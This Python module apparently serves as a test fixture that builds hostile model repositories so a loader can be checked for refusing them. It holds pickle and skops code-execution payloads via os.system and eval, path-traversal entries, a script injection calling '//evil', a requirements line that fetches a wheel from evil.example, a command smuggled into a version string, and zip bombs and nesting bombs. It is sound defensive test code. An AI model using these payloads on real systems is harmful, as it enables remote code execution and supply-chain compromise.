"""Model repositories that nobody should open, each built from a good one by a few lines of code.

Whoever makes such a repository can make its checksums agree, so all of these have the checksum of
their own model.skops, but for the ones whose very point it is. Every payload that could run would
create the canary file.
"""

import functools
import hashlib
import io
import json
import operator
import os
import pickle
import random
import re
import warnings
import zipfile
from collections.abc import Callable, Iterator
from itertools import combinations
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import skops.io
from sklearn.feature_extraction.text import CountVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer

from leadmodel.leads.field import Field
from leadmodel.leads.schema import LeadSchema
from leadmodel.model import LeadModel
from leadmodel.prepare.pipeline import fit_pipeline
from leadmodel.publishing.files import dump_pipeline

Files = dict[str, bytes]
Hostile = Callable[[LeadModel, Path], Files]

KINDS: dict[str, tuple[Hostile, str]] = {}
"""By name: what builds the files, and the reason that the refusal must name."""


def kind(name: str, reason: str) -> Callable[[Hostile], Hostile]:
    """Add a kind of hostile repository."""

    def add(build: Hostile) -> Hostile:
        KINDS[name] = (build, reason)
        return build

    return add


def with_model(good: LeadModel, content: bytes) -> Files:
    """Put another model.skops into the good model's files, every checksum made to agree."""
    old, new = good.config.sha256, hashlib.sha256(content).hexdigest()
    files = dict(good.files) | {"model.skops": content}
    for name in ("config.json", "README.md"):
        files[name] = files[name].replace(old.encode(), new.encode())
    return files


def with_object(good: LeadModel, thing: Any) -> Files:
    """Put a Pipeline with `thing` in it where the model was."""
    return with_model(good, skops.io.dumps(Pipeline([("evil", thing), ("model", good.classifier)])))


def with_schema(good: LeadModel, change: Callable[[dict[str, Any]], Any]) -> Files:
    """Change the schema.json inside the model.skops."""
    entries = unpacked(good)
    schema = json.loads(entries["schema.json"])
    replaced = change(schema)
    entries["schema.json"] = json.dumps(schema if replaced is None else replaced).encode()
    return with_model(good, packed(entries))


def unpacked(good: LeadModel) -> Files:
    with zipfile.ZipFile(io.BytesIO(good.files["model.skops"])) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(entries: Files) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def with_blob(good: LeadModel, change: Callable[[bytearray], bytes | bytearray]) -> Files:
    """Change the CatBoost model inside the model.skops."""
    entries = unpacked(good)
    name = next(name for name in entries if name.endswith(".bin"))
    entries[name] = bytes(change(bytearray(entries[name])))
    return with_model(good, packed(entries))


def with_config(good: LeadModel, **entries: Any) -> Files:
    """Change entries of config.json."""
    content = json.loads(good.files["config.json"]) | entries
    return dict(good.files) | {"config.json": json.dumps(content).encode()}


def touch(canary: Path) -> str:
    return f"touch {canary}"


# --- skops files that name what must not run ----------------------------------------------------

NOT_TRUSTED = "names types that are not trusted"


@kind("os.system", f"{NOT_TRUSTED}.*system")
def _system(good: LeadModel, canary: Path) -> Files:
    return with_object(good, FunctionTransformer(os.system, kw_args={"command": touch(canary)}))


@kind("builtins.eval", f"{NOT_TRUSTED}.*eval")
def _eval(good: LeadModel, canary: Path) -> Files:
    return with_object(good, FunctionTransformer(eval))


@kind("functools.partial", f"{NOT_TRUSTED}.*partial")
def _partial(good: LeadModel, canary: Path) -> Files:
    return with_object(good, FunctionTransformer(functools.partial(os.system, touch(canary))))


@kind("operator.methodcaller", f"{NOT_TRUSTED}.*methodcaller")
def _methodcaller(good: LeadModel, canary: Path) -> Files:
    return with_object(good, FunctionTransformer(operator.methodcaller("touch")))


@kind("operator.attrgetter", f"{NOT_TRUSTED}.*attrgetter")
def _attrgetter(good: LeadModel, canary: Path) -> Files:
    return with_object(good, FunctionTransformer(operator.attrgetter("__class__")))


@kind("a bound method", f"{NOT_TRUSTED}.*MethodNode")
def _method(good: LeadModel, canary: Path) -> Files:
    return with_object(good, FunctionTransformer(LogisticRegression().fit))


@kind("subprocess.Popen as an object", f"{NOT_TRUSTED}.*subprocess.Popen")
def _popen(good: LeadModel, canary: Path) -> Files:
    def change(schema: dict[str, Any]) -> None:
        schema |= {"__module__": "subprocess", "__class__": "Popen"}

    return with_schema(good, change)


@kind("os.system behind a trusted loader", f"{NOT_TRUSTED}.*posix.system")
def _type_node(good: LeadModel, canary: Path) -> Files:
    def change(schema: dict[str, Any]) -> None:
        node = {"__module__": "posix", "__class__": "system", "__loader__": "TypeNode", "__id__": 1}
        schema["content"]["content"]["memory"] = node

    return with_schema(good, change)


@kind("an unknown loader", NOT_TRUSTED)
def _loader(good: LeadModel, canary: Path) -> Files:
    return with_schema(good, lambda schema: schema.update({"__loader__": "ReduceNode"}))


@kind("an estimator that reads files", f"{NOT_TRUSTED}.*CountVectorizer")
def _reads_files(good: LeadModel, canary: Path) -> Files:
    return with_object(good, CountVectorizer(input="filename"))


@kind("an object array of functions", NOT_TRUSTED)
def _object_array(good: LeadModel, canary: Path) -> Files:
    step = FunctionTransformer(kw_args={"x": np.array([os.system, eval], dtype=object)})
    return with_object(good, step)


NO_NUMBERS = "has an array that is no row of numbers"


def with_array(good: LeadModel, content: bytes, name: str | None = None) -> Files:
    """Put an array file in the place of one of the model's, or beside them by another name."""
    entries = unpacked(good)
    name = name or next(name for name in entries if name.endswith(".npy"))
    return with_model(good, packed(entries | {name: content}))


def saved(array: np.ndarray, header: str | None = None) -> bytes:
    """Return an array as numpy saves it, or with a header that lies."""
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    content = buffer.getvalue()
    return content if header is None else content[:10] + header.encode().ljust(118) + content[128:]


@kind("an array file with a pickle in it", NO_NUMBERS)
def _npy(good: LeadModel, canary: Path) -> Files:
    return with_array(good, saved(np.array([_Bomb(canary)], dtype=object)))


@kind("a pickle by the name of an array file", NO_NUMBERS)
def _npy_pickle(good: LeadModel, canary: Path) -> Files:
    return with_array(good, pickle.dumps(_Bomb(canary)))


@kind("an archive by the name of an array file", NO_NUMBERS)
def _npz(good: LeadModel, canary: Path) -> Files:
    return with_array(good, packed({"0.npy": saved(np.array([_Bomb(canary)], dtype=object))}))


@kind("an array that claims a terabyte", NO_NUMBERS)
def _npy_shape(good: LeadModel, canary: Path) -> Files:
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (137438953472,), }"
    return with_array(good, saved(np.zeros(1), header))


@kind("an array with a header of many levels", NO_NUMBERS)
def _npy_header(good: LeadModel, canary: Path) -> Files:
    return with_array(good, b"\x93NUMPY\x02\x00" + (90_000).to_bytes(4, "little") + b"(" * 90_000)


@kind("an array of texts", NO_NUMBERS)
def _npy_texts(good: LeadModel, canary: Path) -> Files:
    return with_array(good, saved(np.array(["a", "b"])))


@kind("an array of a megabyte", r"unpacks to 1,000,128 bytes, more than 100,000")
def _npy_large(good: LeadModel, canary: Path) -> Files:
    return with_array(good, saved(np.zeros(125_000)))


@kind("an array that climbs out", r"has an entry that a model does not have: '\.\./1\.npy'")
def _npy_climbs(good: LeadModel, canary: Path) -> Files:
    return with_array(good, saved(np.zeros(1)), "../1.npy")


@kind("an array that is read from the CatBoost model", f"{NOT_TRUSTED}.*NdArrayNode")
def _npy_elsewhere(good: LeadModel, canary: Path) -> Files:
    blob = next(name for name in unpacked(good) if name.endswith(".bin"))

    def change(schema: dict[str, Any]) -> dict[str, Any]:
        text = json.dumps(schema)
        for name in unpacked(good):
            text = text.replace(f'"{name}"', f'"{blob}"') if name.endswith(".npy") else text
        return json.loads(text)

    return with_schema(good, change)


@kind("a trusted class with a hostile state", "cannot be opened|must have a Pipeline|cannot score")
def _state(good: LeadModel, canary: Path) -> Files:
    def change(schema: dict[str, Any]) -> None:
        schema["content"]["content"]["steps"] = _json_node("__import__('os').system('x')")

    return with_schema(good, change)


@kind("a state that is no state", "cannot be opened|must have a Pipeline")
def _no_state(good: LeadModel, canary: Path) -> Files:
    return with_schema(good, lambda schema: schema.update({"content": _json_node([1, 2])}))


@kind("another estimator", f"{NOT_TRUSTED}.*LogisticRegression")
def _other(good: LeadModel, canary: Path) -> Files:
    return with_model(good, skops.io.dumps(Pipeline([("other", LogisticRegression())])))


def _json_node(value: Any) -> dict[str, Any]:
    return {
        "__module__": "builtins",
        "__class__": "str",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
        "__id__": 7,
    }


class _Bomb:
    """Runs a command when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (touch(self.canary),)


# --- skops files that are a graph, where ours are a tree ---------------------------------------------

REFERS, OTHER_CONTENT = "a node is not complete", "is not what skops writes"


def with_node(good: LeadModel, node: Any) -> Files:
    """Put a node where the pipeline says that it keeps nothing in a cache."""

    def change(schema: dict[str, Any]) -> None:
        schema["content"]["content"]["memory"] = node

    return with_schema(good, change)


def node(loader: str, number: int, kind: str | None = None, **entries: Any) -> dict[str, Any]:
    """Return a node of plain Python as skops writes it."""
    kind = kind or loader.removesuffix("Node").lower()
    return {"__module__": "builtins", "__class__": kind, "__loader__": loader, "__id__": number} | entries


def listed(number: int, *content: Any) -> dict[str, Any]:
    return node("ListNode", number, content=list(content))


@kind("a graph with a million million paths", REFERS)
def _paths(good: LeadModel, canary: Path) -> Files:
    levels = [listed(100)]
    for level in range(1, 60):
        again = {"__id__": 99 + level}
        levels.append(listed(100 + level, levels[-1], again, again))
    return with_node(good, levels[-1])


@kind("a graph with as many paths in a row", REFERS)
def _row(good: LeadModel, canary: Path) -> Files:
    rows = [listed(100), *(listed(100 + n, {"__id__": 99 + n}, {"__id__": 99 + n}) for n in range(1, 60))]
    return with_node(good, listed(99, *rows))


@kind("an array that names one list a thousand times", OTHER_CONTENT)
def _thousand(good: LeadModel, canary: Path) -> Files:
    long = listed(100, *(_json_node("x") | {"__id__": 1000 + n} for n in range(1000)))
    return with_node(good, object_array(long, *({"__id__": 100} for _ in range(1000))))


def object_array(*content: Any) -> dict[str, Any]:
    shape = node("TupleNode", 98, content=[_json_node(len(content)) | {"__id__": 97}])
    array = {"__module__": "numpy", "__class__": "ndarray", "__loader__": "NdArrayNode", "__id__": 96}
    return array | {"content": list(content), "type": "json", "shape": shape}


@kind("an array of lists", OTHER_CONTENT)
def _array_of_lists(good: LeadModel, canary: Path) -> Files:
    return with_node(good, object_array(listed(100), listed(101)))


@kind("an array of another number of dimensions", OTHER_CONTENT)
def _dimensions(good: LeadModel, canary: Path) -> Files:
    array = object_array(_json_node(1))
    array["shape"]["content"] *= 2
    return with_node(good, array)


@kind("a type with a content of its own", OTHER_CONTENT)
def _dtype(good: LeadModel, canary: Path) -> Files:
    dtype = {"__module__": "numpy", "__class__": "dtype", "__loader__": "DTypeNode", "__id__": 95}
    return with_node(good, dtype | {"content": object_array(_json_node(1))})


def blob_of(good: LeadModel) -> str:
    return next(name for name in unpacked(good) if name.endswith(".bin"))


@kind("a blob that is named twice", "each entry must be named by one node")
def _named_twice(good: LeadModel, canary: Path) -> Files:
    return with_node(good, node("BytesNode", 100, file=blob_of(good)))


@kind("a padded blob that is named a thousand times", "has more data behind its CatBoost model")
def _padded_often(good: LeadModel, canary: Path) -> Files:
    blob, entries = blob_of(good), unpacked(good)
    schema = json.loads(entries["schema.json"])
    named = (node("BytesNode", 100 + n, file=blob) for n in range(1000))
    schema["content"]["content"]["memory"] = listed(99, *named)
    padded = {blob: entries[blob] + bytes(7_000_000), "schema.json": json.dumps(schema).encode()}
    return with_model(good, packed(entries | padded))


@kind("a padded blob", "has more data behind its CatBoost model")
def _padded(good: LeadModel, canary: Path) -> Files:
    return with_blob(good, lambda blob: blob + b"\0")


@kind("a blob that no node names", "each entry must be named by one node")
def _unnamed(good: LeadModel, canary: Path) -> Files:
    return with_model(good, packed(unpacked(good) | {"00000000-0000-0000-0000-000000000000.bin": b"x"}))


@kind("a node that has the number of another", "a node refers to another by its __id__")
def _same_number(good: LeadModel, canary: Path) -> Files:
    return with_node(good, listed(99, listed(100, listed(101)), listed(100)))


def with_copies(good: LeadModel, change: Callable[[dict[str, Any]], object]) -> Files:
    """Put a model of numbers alone where the model was, and change the second copy of a step in it.

    skops writes a step that was never fitted, as that for texts is here, as two copies of one number.
    """
    lead_schema = LeadSchema(fields=(Field(name="n", kind="numeric", label="N"),))
    parameters = {"iterations": 2, "random_seed": 0, "verbose": False, "allow_writing_files": False}
    X, y = pd.DataFrame({"n": np.arange(40.0)}), np.arange(40) % 2
    content = dump_pipeline(fit_pipeline(lead_schema, X, y, [parameters], lambda step: None))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    schema = json.loads(entries["schema.json"])
    steps = [step for step in nodes(schema) if step["__class__"] == "SimpleImputer"]
    pairs = combinations(steps, 2)
    change(next(second for first, second in pairs if first["__id__"] == second["__id__"]))
    return with_model(good, packed(entries | {"schema.json": json.dumps(schema).encode()}))


def nodes(part: Any) -> Iterator[dict[str, Any]]:
    """Yield every node of a schema."""
    if isinstance(part, dict):
        if "__id__" in part:
            yield part
        part = list(part.values())
    for below in part if isinstance(part, list) else ():
        yield from nodes(below)


COPY = "a node refers to another by its __id__"
NEW = 10**15
"""A number that no node has."""


@kind("another value in the second copy of a step", COPY)
def _copy_value(good: LeadModel, canary: Path) -> Files:
    other = node("JsonNode", NEW, "str", content='"median"', is_json=True)
    return with_copies(good, lambda step: step["content"]["content"].update(strategy=other))


@kind("another class in the second copy of a step", COPY)
def _copy_class(good: LeadModel, canary: Path) -> Files:
    other = {"__module__": "sklearn.pipeline", "__class__": "Pipeline"}
    return with_copies(good, lambda step: step.update(other))


@kind("more in the second copy of a step", COPY)
def _copy_more(good: LeadModel, canary: Path) -> Files:
    return with_copies(good, lambda step: step["content"]["content"].update(more=listed(NEW)))


@kind("a longer list in the second copy of a step", COPY)
def _copy_longer(good: LeadModel, canary: Path) -> Files:
    more = node("TypeNode", NEW, "str")
    return with_copies(good, lambda step: step["content"]["key_types"]["content"].append(more))


@kind("a foreign type in the second copy of a step", "types that are not trusted: builtins.eval")
def _copy_type(good: LeadModel, canary: Path) -> Files:
    evil = node("TypeNode", NEW, "eval")
    return with_copies(good, lambda step: step["content"]["content"].update(strategy=evil))


@kind("a node within itself", "a node refers to another by its __id__")
def _within_itself(good: LeadModel, canary: Path) -> Files:
    return with_node(good, listed(100, listed(100)))


@kind("a node without a number", REFERS)
def _no_number(good: LeadModel, canary: Path) -> Files:
    return with_node(good, {key: value for key, value in listed(1).items() if key != "__id__"})


@kind("a node whose number is a text", "the __id__ of a node is 'x'")
def _text_number(good: LeadModel, canary: Path) -> Files:
    return with_node(good, listed(1) | {"__id__": "x"})


@kind("a node whose number is true", "the __id__ of a node is True")
def _true_number(good: LeadModel, canary: Path) -> Files:
    return with_node(good, listed(1) | {"__id__": True})


@kind("a node that stands for another by its loader", f"{NOT_TRUSTED}.*CachedNode")
def _cached(good: LeadModel, canary: Path) -> Files:
    return with_node(good, node("CachedNode", 100, "list"))


@kind("a node with more than skops writes", "has other entries than skops writes")
def _more(good: LeadModel, canary: Path) -> Files:
    return with_node(good, listed(100) | {"key_types": listed(101)})


@kind("a hundred nodes within one another", "more than 60 levels")
def _levels(good: LeadModel, canary: Path) -> Files:
    inner = listed(100)
    for number in range(100):
        inner = listed(101 + number, inner)
    return with_node(good, inner)


@kind("a text that holds a million lists", OTHER_CONTENT)
def _texts(good: LeadModel, canary: Path) -> Files:
    return with_node(good, _json_node([[]] * 1_000_000))


@kind("a slice of lists", OTHER_CONTENT)
def _slice(good: LeadModel, canary: Path) -> Files:
    return with_node(good, node("SliceNode", 100, content={"start": [], "stop": None, "step": None}))


@kind("a hundred thousand lists", "more than 30,000 nodes")
def _many_nodes(good: LeadModel, canary: Path) -> Files:
    lists = listed(1, *(listed(n) for n in range(2, 100_000)))
    return with_node(good, lists)


@kind("a schema that is a list", REFERS)
def _list(good: LeadModel, canary: Path) -> Files:
    return with_schema(good, lambda schema: [schema])


# --- archives that are no archives ----------------------------------------------------------------


@kind("a pickle by the name of a skops file", "is not a skops file")
def _pickle(good: LeadModel, canary: Path) -> Files:
    return with_model(good, pickle.dumps(_Bomb(canary)))


@kind("an archive within the archive", "has an entry that a model does not have")
def _nested(good: LeadModel, canary: Path) -> Files:
    return with_model(good, packed(unpacked(good) | {"inner.zip": good.files["model.skops"]}))


@kind("an entry that climbs out", r"has an entry that a model does not have: '\.\./\.\./evil.bin'")
def _climbs(good: LeadModel, canary: Path) -> Files:
    return with_model(good, packed(unpacked(good) | {"../../evil.bin": b"x"}))


@kind("an archive that unpacks to half a gigabyte", "unpacks to")
def _bomb(good: LeadModel, canary: Path) -> Files:
    buffer = io.BytesIO(packed(unpacked(good)))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("00000000-0000-0000-0000-000000000000.bin", "w") as entry:
            for _ in range(500):
                entry.write(bytes(1_000_000))
    return with_model(good, buffer.getvalue())


@kind("a hundred entries", "must have at most")
def _many(good: LeadModel, canary: Path) -> Files:
    extra = {f"00000000-0000-0000-0000-{number:012d}.bin": b"" for number in range(100)}
    return with_model(good, packed(unpacked(good) | extra))


@kind("a schema that is no JSON", "has a damaged schema.json")
def _no_json(good: LeadModel, canary: Path) -> Files:
    return with_model(good, packed(unpacked(good) | {"schema.json": b"{'a': 1}"}))


@kind("a schema of a hundred thousand levels", "has a damaged schema.json")
def _deep(good: LeadModel, canary: Path) -> Files:
    return with_model(good, packed(unpacked(good) | {"schema.json": b"[" * 100_000 + b"]" * 100_000}))


@kind("no schema", "is not a skops file")
def _no_schema(good: LeadModel, canary: Path) -> Files:
    entries = unpacked(good)
    entries.pop("schema.json")
    return with_model(good, packed(entries))


# --- archives whose entries lie -----------------------------------------------------------------------


def with_entry(good: LeadModel, method: int, change: Callable[[bytearray, int, int], object]) -> Files:
    """Pack the model anew, and change the archive, given where the schema and its record begin."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in unpacked(good).items():
            archive.writestr(name, content)
    content = bytearray(buffer.getvalue())
    entry, record = content.rfind(b"PK\x03\x04"), content.rfind(b"PK\x01\x02")
    change(content, entry, record)
    return with_model(good, bytes(content))


def written(at: int, number: int) -> Callable[[bytearray, int, int], object]:
    """Return a change of a number of four bytes, so far within the last record of the archive."""

    def change(content: bytearray, entry: int, record: int) -> None:
        content[record + at : record + at + 4] = number.to_bytes(4, "little")

    return change


def scrambled(content: bytearray, entry: int, record: int) -> None:
    content[entry + 45 : entry + 145] = b"\xff" * 100


@kind("an entry that unpacks to more than it says", "of the size that they say|is not a skops file")
def _longer(good: LeadModel, canary: Path) -> Files:
    return with_entry(good, zipfile.ZIP_DEFLATED, written(24, 10))


@kind("an entry that unpacks to less than it says", "of the size that they say|is not a skops file")
def _shorter(good: LeadModel, canary: Path) -> Files:
    return with_entry(good, zipfile.ZIP_DEFLATED, written(24, 10_000_000))


@kind("an entry that begins beyond the end", "is not a skops file")
def _beyond(good: LeadModel, canary: Path) -> Files:
    return with_entry(good, zipfile.ZIP_DEFLATED, written(42, 0x7FFFFFFF))


@kind("an archive whose record begins before the file", "is not a skops file")
def _before(good: LeadModel, canary: Path) -> Files:
    def change(content: bytearray, entry: int, record: int) -> None:
        content[-6:-2] = b"\xff\xff\xff\x7f"

    return with_entry(good, zipfile.ZIP_DEFLATED, change)


@kind("a damaged entry", "is not a skops file")
def _zlib(good: LeadModel, canary: Path) -> Files:
    return with_entry(good, zipfile.ZIP_DEFLATED, scrambled)


@kind("an entry packed with LZMA", "is packed in a way that no model is")
def _lzma(good: LeadModel, canary: Path) -> Files:
    return with_entry(good, zipfile.ZIP_LZMA, lambda content, entry, record: None)


@kind("a damaged entry packed with LZMA", "is packed in a way that no model is")
def _lzma_damaged(good: LeadModel, canary: Path) -> Files:
    return with_entry(good, zipfile.ZIP_LZMA, scrambled)


@kind("an entry packed with BZIP2", "is packed in a way that no model is")
def _bzip2(good: LeadModel, canary: Path) -> Files:
    return with_entry(good, zipfile.ZIP_BZIP2, lambda content, entry, record: None)


@kind("an encrypted entry", "is not a skops file")
def _encrypted(good: LeadModel, canary: Path) -> Files:
    def change(content: bytearray, entry: int, record: int) -> None:
        content[entry + 6] |= 1
        content[record + 8] |= 1

    return with_entry(good, zipfile.ZIP_DEFLATED, change)


@kind("an entry that is there twice", "must have at most 20 entries, each once")
def _twice(good: LeadModel, canary: Path) -> Files:
    buffer = io.BytesIO(packed(unpacked(good)))
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("schema.json", b"{}")
    return with_model(good, buffer.getvalue())


@kind("a schema of twenty megabytes", "unpacks to")
def _schema_large(good: LeadModel, canary: Path) -> Files:
    return with_model(good, packed(unpacked(good) | {"schema.json": b"[" + b"[]," * 6_666_666 + b"[]]"}))


@kind("a schema of eleven megabytes of empty lists", REFERS)
def _schema_lists(good: LeadModel, canary: Path) -> Files:
    return with_model(good, packed(unpacked(good) | {"schema.json": b"[" + b"[]," * 3_900_000 + b"[]]"}))


# --- metrics and profiles that no page can show -------------------------------------------------------


def with_json(good: LeadModel, name: str, change: Callable[[dict[str, Any]], object]) -> Files:
    """Change the content of a JSON file of the model."""
    content = json.loads(good.files[name])
    change(content)
    return dict(good.files) | {name: json.dumps(content).encode()}


NOT_SHOWN = "The model cannot be shown"


@kind("a number with one edge and no cells", "profile.json cannot be read")
def _edges(good: LeadModel, canary: Path) -> Files:
    def change(profile: dict[str, Any]) -> None:
        profile["fields"]["age"] |= {"edges": [1.0], "cells": {}}

    return with_json(good, "profile.json", change)


@kind("a number that is told as a text", "One has the field 'age' as numbers")
def _number_as_text(good: LeadModel, canary: Path) -> Files:
    def change(profile: dict[str, Any]) -> None:
        profile["fields"]["age"] |= {"edges": [], "cells": {}}

    return with_json(good, "profile.json", change)


@kind("metrics of no test leads", NOT_SHOWN)
def _no_test(good: LeadModel, canary: Path) -> Files:
    return with_json(good, "metrics.json", lambda metrics: metrics.update(n_test=0, n_test_converted=0))


@kind("a metric that is no number", "metrics.json must have finite numbers. Got 'NaN'")
def _metric_nan(good: LeadModel, canary: Path) -> Files:
    return with_json(good, "metrics.json", lambda m: m["test"]["roc_auc"].update(value=float("nan")))


@kind("a metric beyond all numbers", "metrics.json must have finite numbers. Got '1e999'")
def _metric_endless(good: LeadModel, canary: Path) -> Files:
    text = re.sub(
        rb'"calibration_floor": [0-9.e-]+', b'"calibration_floor": 1e999', good.files["metrics.json"]
    )
    return dict(good.files) | {"metrics.json": text}


@kind("an edge that is no number", "profile.json must have finite numbers")
def _edge_nan(good: LeadModel, canary: Path) -> Files:
    def change(profile: dict[str, Any]) -> None:
        profile["fields"]["age"]["edges"][0] = float("-inf")

    return with_json(good, "profile.json", change)


@kind("a training of endless seconds", "config.json must have finite numbers|config.json, at training")
def _seconds(good: LeadModel, canary: Path) -> Files:
    training = json.loads(good.files["config.json"])["training"]
    return with_config(good, training=training | {"seconds": float("inf")})


@kind("a level of an unknown field", NOT_SHOWN)
def _level(good: LeadModel, canary: Path) -> Files:
    test = json.loads(good.files["metrics.json"])["test"]["roc_auc"]
    level = {"field": "shoe size", "value": "9", "n_leads": 9, "n_converted": 1, "verdict": "worse"}
    level |= {name: test for name in ("roc_auc", "log_loss", "gap")}
    return with_json(good, "metrics.json", lambda metrics: metrics.update(levels=[level]))


@kind("a comparison without the model itself", NOT_SHOWN)
def _comparison(good: LeadModel, canary: Path) -> Files:
    return with_json(good, "metrics.json", lambda metrics: metrics.update(comparison=[]))


@kind("a comparison without a metric", NOT_SHOWN)
def _comparison_metric(good: LeadModel, canary: Path) -> Files:
    return with_json(good, "metrics.json", lambda metrics: metrics["comparison"][-1].update(metrics={}))


@kind("a title with half of a character", "config.json contains half of a character")
def _surrogate(good: LeadModel, canary: Path) -> Files:
    return with_config(good, title="half \ud800")


@kind("associations of unknown fields", NOT_SHOWN)
def _association(good: LeadModel, canary: Path) -> Files:
    def change(metrics: dict[str, Any]) -> None:
        names = metrics["insights"]["association"]["fields"]
        metrics["insights"]["association"]["fields"] = [f"no {name}" for name in names]

    return with_json(good, "metrics.json", change)


# --- CatBoost models that are none ------------------------------------------------------------------


@kind("a CatBoost model cut in half", "CatBoost (refuses|dies of) it")
def _cut(good: LeadModel, canary: Path) -> Files:
    return with_blob(good, lambda blob: blob[: len(blob) // 2])


@kind("a CatBoost model of random bytes", "CatBoost (refuses|dies of) it")
def _random(good: LeadModel, canary: Path) -> Files:
    return with_blob(good, lambda blob: b"CBM1" + random.Random(0).randbytes(len(blob)))


@kind("a CatBoost model of a quarter of a gigabyte", "CatBoost (refuses|dies of) it|takes more than")
def _blob_large(good: LeadModel, canary: Path) -> Files:
    size = 240_000_000
    return with_blob(good, lambda blob: b"CBM1" + size.to_bytes(4, "little") + bytes(size))


@kind("a manipulated CatBoost model", "CatBoost (refuses|dies of) it")
def _manipulated(good: LeadModel, canary: Path) -> Files:
    def change(blob: bytearray) -> bytearray:
        # The size of the model's core and every table offset in it lead astray.
        blob[8:200] = b"\xff\xff\xff\x7f" * 48
        return blob

    return with_blob(good, change)


# --- files that are not of this model -----------------------------------------------------------------


@kind("a swapped model", "the file was changed or damaged")
def _swapped(good: LeadModel, canary: Path) -> Files:
    return dict(good.files) | {"model.skops": packed(unpacked(good) | {"schema.json": b"{}"})}


@kind("a swapped model with the old card", "README.md is not the card of this model")
def _old_card(good: LeadModel, canary: Path) -> Files:
    files = with_model(good, packed(unpacked(good)))
    return files | {"README.md": good.files["README.md"]}


@kind("a card with a script", "README.md contains markup that no card needs: '<script'")
def _script(good: LeadModel, canary: Path) -> Files:
    card = good.files["README.md"] + b"\n<script>fetch('//evil')</script>\n"
    return dict(good.files) | {"README.md": card}


@kind("requirements of another package", "requirements.txt must name the versions of config.json")
def _requirements(good: LeadModel, canary: Path) -> Files:
    return dict(good.files) | {"requirements.txt": b"catboost @ https://evil.example/catboost.whl\n"}


@kind("a plot that is a page", "plots/roc.png must be a PNG image")
def _plot(good: LeadModel, canary: Path) -> Files:
    return dict(good.files) | {"plots/roc.png": b"<html><script>1</script>"}


@kind("a profile of other fields", "must be of one model. Their fields differ")
def _profile(good: LeadModel, canary: Path) -> Files:
    profile = good.files["profile.json"].replace(b'"age"', b'"years"')
    return dict(good.files) | {"profile.json": profile}


# --- configurations that say what none says ----------------------------------------------------------


@kind("an unknown entry", "at run_at_start: Extra inputs are not permitted")
def _entry(good: LeadModel, canary: Path) -> Files:
    return with_config(good, run_at_start=touch(canary))


@kind("a model file elsewhere", "at sklearn: the block does not say what the rest says")
def _elsewhere(good: LeadModel, canary: Path) -> Files:
    block = json.loads(good.files["config.json"])["sklearn"]
    return with_config(good, sklearn=block | {"model": {"file": "../../../etc/passwd"}})


@kind("a threshold that is no number", "at decision.threshold")
def _threshold(good: LeadModel, canary: Path) -> Files:
    decision = json.loads(good.files["config.json"])["decision"]
    return with_config(good, decision=decision | {"threshold": float("nan")})


@kind("a version that is a command", "at versions.catboost: String should match")
def _version(good: LeadModel, canary: Path) -> Files:
    versions = good.config.versions | {"catboost": f"1.2; {touch(canary)}"}
    return with_config(good, versions=versions)


@kind("a checksum that is a path", "at sha256: String should match")
def _checksum(good: LeadModel, canary: Path) -> Files:
    return with_config(good, sha256="../../../../tmp/evil")


@kind("a configuration of ten megabytes", "config.json must have at most")
def _large(good: LeadModel, canary: Path) -> Files:
    return dict(good.files) | {"config.json": b" " * 10_000_000 + good.files["config.json"]}


def write(folder: Path, files: Files) -> None:
    """Write the files as they are, without the care of the product."""
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)


__all__ = ["KINDS", "write"]
